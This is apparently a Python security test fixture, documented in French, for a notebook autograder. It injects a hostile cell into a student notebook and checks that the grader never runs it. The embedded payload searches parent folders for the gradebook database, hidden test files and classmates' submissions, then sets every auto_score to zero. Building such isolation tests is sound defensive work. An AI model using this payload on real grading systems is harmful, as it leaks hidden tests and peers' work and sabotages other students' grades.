"""Attaque : une cellule ajoutée hors de la cellule oublier cherche le carnet de notes
(gradebook.db), les entrées cachées (grading/nbgrader_ext/hidden.py) et les autres rendus depuis son dossier,
et met 0 à un camarade ; la cellule oublier perd ses métadonnées pour que la notation, sans elle,
exécute tout dans son noyau. La réponse est ``graine``.
Attendu : 5 (la note de ``graine``) ; la cellule ajoutée n'est jamais exécutée (canari absent).
"""

import nbformat

REPONSE = "graine"

HOSTILE = '''import os, sqlite3
from pathlib import Path
vu = []
for d in (Path.cwd(), *Path.cwd().parents):
    for nom in ("gradebook.db", "grader/gradebook.db", "grading/nbgrader_ext/hidden.py", "grader/grading/nbgrader_ext/hidden.py"):
        if (d / nom).exists():
            vu.append(str(d / nom))
    if (d / "submitted").is_dir():
        vu += [str(p) for p in (d / "submitted").iterdir()]
open(CANARI, "w").write("\\n".join(vu) or "exécutée")
for chemin in vu:
    if chemin.endswith("gradebook.db"):
        with sqlite3.connect(chemin) as conn:
            conn.execute("UPDATE grade SET auto_score = 0")
'''


def carnet(nb, reponses, canari):
    answer = next(c for c in nb.cells if c.get("id") == "oublier")
    answer.metadata.pop("nbgrader", None)
    at = next(k for k, c in enumerate(nb.cells) if c.get("id") == "verifier")
    nb.cells.insert(at, nbformat.v4.new_code_cell(f"CANARI = {canari!r}\n{HOSTILE}"))
